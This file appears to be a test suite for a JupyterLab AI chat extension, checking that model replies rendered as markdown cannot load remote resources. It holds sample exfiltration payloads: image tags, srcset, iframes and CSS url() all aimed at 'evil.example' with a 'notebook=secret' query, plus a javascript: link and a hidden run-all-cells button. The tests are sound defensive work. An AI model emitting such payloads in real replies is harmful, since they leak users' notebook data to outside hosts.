/**
 * The model's words load nothing from elsewhere: a remote image in a reply
 * is a link (its alt text, the URL as target), and no other element or
 * attribute that would fetch something (srcset, audio, video, iframe, link,
 * CSS url(), picture) reaches the page. Rendered with JupyterLab's own
 * markdown parser and sanitizer, as in the app.
 */
import { CodeCell, CodeCellModel } from '@jupyterlab/cells';
import { EditorLanguageRegistry } from '@jupyterlab/codemirror';
import { createMarkdownParser } from '@jupyterlab/markedparser-extension';
import {
  IRenderMimeRegistry,
  RenderMimeRegistry,
  standardRendererFactories
} from '@jupyterlab/rendermime';
import { NBTestUtils } from '@jupyterlab/testutils';
import * as React from 'react';

import { showFixResult } from '../autofix';
import { Markdown } from '../chat/markdown';
import {
  IMAGE_LINK_CLASS,
  replyRendermime,
  withoutRemoteLoads
} from '../chat/sanitize';
import { rendered } from './fakes';

const LEAK = 'https://evil.example/pixel.png?notebook=secret';

/** The app's rendermime: its markdown parser, JupyterLab's sanitizer. */
function appRendermime(): IRenderMimeRegistry {
  return new RenderMimeRegistry({
    initialFactories: standardRendererFactories,
    markdownParser: createMarkdownParser(new EditorLanguageRegistry())
  });
}

/** A reply rendered by the chat, once its markdown is on the page. */
async function renderReply(source: string): Promise<HTMLElement> {
  let shown = false;
  const node = await rendered(
    <Markdown
      source={source}
      rendermime={appRendermime()}
      onRendered={() => (shown = true)}
    />
  );
  for (let tries = 0; !shown && tries < 200; tries++) {
    await new Promise(resolve => setTimeout(resolve, 10));
  }
  expect(shown).toBe(true);
  return node;
}

/** Every URL an element of the node would load by itself. */
function loads(node: Element): string[] {
  const found: string[] = [];
  for (const element of Array.from(node.querySelectorAll('*'))) {
    for (const name of ['src', 'srcset', 'poster', 'background', 'data']) {
      const value = element.getAttribute(name);
      if (value && !/^(data|blob):/.test(value)) {
        found.push(`${element.localName}[${name}]=${value}`);
      }
    }
    const style = element.getAttribute('style') ?? '';
    if (/url\(/i.test(style)) {
      found.push(`${element.localName}[style]=${style}`);
    }
    if (
      [
        'link',
        'iframe',
        'source',
        'video',
        'audio',
        'picture',
        'object',
        'embed'
      ].includes(element.localName)
    ) {
      found.push(element.localName);
    }
  }
  return found;
}

describe('a reply with a remote image', () => {
  it('shows the image as a link to its URL with its alt text: no image is loaded', async () => {
    const node = await renderReply(`Here is the plot:\n\n![the plot](${LEAK})`);
    expect(node.querySelectorAll('img')).toHaveLength(0);
    expect(node.querySelector(`img[src^="http"]`)).toBeNull();
    const link = node.querySelector<HTMLAnchorElement>(`a.${IMAGE_LINK_CLASS}`);
    expect(link).not.toBeNull();
    expect(link!.getAttribute('href')).toBe(LEAK);
    expect(link!.textContent).toBe('the plot');
    expect(link!.title).toBe(LEAK);
    expect(link!.rel).toContain('noopener');
    expect(loads(node)).toEqual([]);
  });

  it('shows the URL itself when the image has no alt text', async () => {
    const node = await renderReply(`![](${LEAK})`);
    const link = node.querySelector(`a.${IMAGE_LINK_CLASS}`);
    expect(link?.textContent).toBe(LEAK);
    expect(node.querySelector('img')).toBeNull();
  });

  it('keeps an image that is in the reply itself (a data: URL)', async () => {
    const inline = 'data:image/png;base64,iVBORw0KGgo=';
    const node = await renderReply(`![dot](${inline})`);
    expect(node.querySelector('img')?.getAttribute('src')).toBe(inline);
  });

  it('never makes a link of another scheme, nor a link in a link', async () => {
    const node = await renderReply(
      '![run me](javascript:alert(1)) and ' +
        `[![badge](${LEAK})](https://example.org/project) and ![rel](plot.png)`
    );
    expect(node.querySelector('img')).toBeNull();
    expect(node.querySelector('a[href^="javascript"]')).toBeNull();
    expect(node.textContent).toContain('run me');
    const outer = node.querySelector('a[href="https://example.org/project"]');
    expect(outer?.textContent).toBe('badge');
    expect(outer?.querySelector('a')).toBeNull();
    expect(node.textContent).toContain('rel');
    expect(loads(node)).toEqual([]);
  });

  it('loads nothing from raw HTML either: srcset, picture, media, frames, links, CSS url()', async () => {
    const node = await renderReply(
      [
        `<img src="${LEAK}" alt="raw">`,
        `<img src="data:image/png;base64,iVBORw0KGgo=" srcset="${LEAK} 2x" alt="set">`,
        `<picture><source srcset="${LEAK}"><img src="${LEAK}" alt="pic"></picture>`,
        `<video src="${LEAK}" poster="${LEAK}"></video>`,
        `<audio src="${LEAK}"></audio>`,
        `<iframe src="${LEAK}"></iframe>`,
        `<link rel="stylesheet" href="${LEAK}">`,
        `<div style="background-image: url(${LEAK})">styled</div>`,
        `<span style="cursor: url(${LEAK}), auto">pointer</span>`,
        `<table background="${LEAK}"><tr><td>cell</td></tr></table>`,
        `<input type="image" src="${LEAK}" alt="button">`,
        `<svg><image href="${LEAK}"></image></svg>`,
        '<button data-commandlinker-command="notebook:run-all-cells">Run all</button>'
      ].join('\n\n')
    );
    expect(loads(node)).toEqual([]);
    expect(node.querySelector('[data-commandlinker-command]')).toBeNull();
    // The images are links, in the order they came.
    const links = Array.from(
      node.querySelectorAll<HTMLAnchorElement>(`a.${IMAGE_LINK_CLASS}`)
    );
    expect(links.map(a => a.textContent)).toEqual(
      expect.arrayContaining(['raw', 'pic', 'button'])
    );
    // What is not a resource stays: the text, the data: image.
    expect(node.textContent).toContain('styled');
    expect(node.textContent).toContain('cell');
    expect(node.querySelector('img[alt="set"]')).not.toBeNull();
  });

  it('cleans what is added after the render (the math typesetter styles its output)', async () => {
    const node = await renderReply('The answer: $x^2$');
    const host = node.querySelector('.jp-RenderedMarkdown')!;
    const added = document.createElement('span');
    added.setAttribute('style', `cursor: url(${LEAK}), auto`);
    const image = document.createElement('img');
    image.setAttribute('src', LEAK);
    host.append(added, image);
    await new Promise(resolve => setTimeout(resolve, 0));
    expect(added.hasAttribute('style')).toBe(false);
    expect(host.querySelector('img')).toBeNull();
    expect(loads(node)).toEqual([]);
  });
});

describe('the reply sanitizer', () => {
  it('leaves what loads nothing as it was', () => {
    const html =
      '<p>Sum: <strong>55</strong> <a href="https://example.org">docs</a></p>\n<pre><code>print(1)</code></pre>';
    expect(withoutRemoteLoads(html)).toBe(html);
  });

  it('is the app’s rendermime with JupyterLab’s sanitizer first, one copy per registry', () => {
    const app = appRendermime();
    const reply = replyRendermime(app);
    expect(replyRendermime(app)).toBe(reply);
    expect(reply).not.toBe(app);
    expect(reply.markdownParser).toBe(app.markdownParser);
    // JupyterLab's sanitizer still runs: no script survives.
    expect(reply.sanitizer.sanitize('<script>x()</script><b>ok</b>')).toBe(
      '<b>ok</b>'
    );
    expect(
      reply.sanitizer.sanitize(`<img src="${LEAK}" alt="a">`)
    ).not.toContain('<img');
  });
});

describe('the note under a fixed cell', () => {
  it('shows a remote image of the model’s explanation as a link', async () => {
    const model = new CodeCellModel();
    const cell = new CodeCell({
      model,
      rendermime: NBTestUtils.defaultRenderMime(),
      contentFactory: NBTestUtils.createCodeCellFactory(),
      placeholder: false
    }).initializeState();
    showFixResult(
      cell,
      {
        kind: 'fixed',
        title: 'Fixed',
        explanation: `The name was misspelled. ![proof](${LEAK})`,
        message: '',
        dismiss: 'Dismiss'
      },
      appRendermime()
    );
    const body = cell.node.querySelector('.jp-OciFixResult-body')!;
    for (let tries = 0; !body.textContent && tries < 200; tries++) {
      await new Promise(resolve => setTimeout(resolve, 10));
    }
    expect(body.textContent).toContain('misspelled');
    expect(body.querySelector('img')).toBeNull();
    expect(
      body.querySelector(`a.${IMAGE_LINK_CLASS}`)?.getAttribute('href')
    ).toBe(LEAK);
  });
});
